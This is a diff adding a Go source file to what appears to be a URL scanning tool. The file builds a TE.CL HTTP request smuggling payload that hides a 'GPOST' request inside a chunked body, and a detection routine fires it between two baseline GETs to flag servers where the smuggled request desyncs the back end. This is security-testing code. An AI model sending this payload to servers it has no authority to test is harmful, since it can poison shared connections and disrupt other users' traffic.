@@ -0,0 +1,69 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+	"time"
+
+	"github.com/ahmetburakakay/urlfetcher/fetcher"
+)
+
+// teclPayload returns a TE.CL smuggling request for u. A front-end that
+// honours Transfer-Encoding forwards the whole chunked body, while a
+// back-end that honours Content-Length stops after the chunk size line and
+// treats the rest, a GPOST request, as the start of the next request on the
+// connection.
+func teclPayload(u *url.URL) []byte {
+	smuggled := fmt.Sprintf(
+		"GPOST %s HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1",
+		fetcher.RequestTarget(u),
+	)
+	size := fmt.Sprintf("%x", len(smuggled))
+	body := size + "\r\n" + smuggled + "\r\n0\r\n\r\n"
+
+	return rawRequest(http.MethodPost, u, []string{
+		"Content-Type: application/x-www-form-urlencoded",
+		fmt.Sprintf("Content-Length: %d", len(size)+2),
+		"Transfer-Encoding: chunked",
+	}, body)
+}
+
+// detectTECLSmuggling sends a TE.CL smuggling request to r's URL followed
+// by a normal GET. If the GET's response differs from a baseline GET made
+// beforehand, or mentions the smuggled GPOST method, the back-end probably
+// prefixed it with the smuggled request.
+func detectTECLSmuggling(client *http.Client, dial fetcher.DialFunc, r request, headers headerArgs, connectTimeout, timeout time.Duration) {
+	u, err := url.Parse(r.url)
+	if err != nil {
+		return
+	}
+
+	base, _, err := probe(client, http.MethodGet, r.url, "", headers)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+		return
+	}
+
+	err = probeLimiter.Wait(context.Background())
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "rate limiter error: %s\n", err)
+		return
+	}
+	// The back-end may wait for the rest of the body it expects, so an
+	// error or timeout here is normal.
+	rawRoundTrip(dial, u, teclPayload(u), connectTimeout, timeout)
+
+	resp, body, err := probe(client, http.MethodGet, r.url, "", headers)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+		return
+	}
+
+	if resp.StatusCode != base.StatusCode || bytes.Contains(body, []byte("GPOST")) {
+		fmt.Printf("SMUGGLING-TE-CL-POSSIBLE %s (%d -> %d)\n", r.url, base.StatusCode, resp.StatusCode)
+	}
+}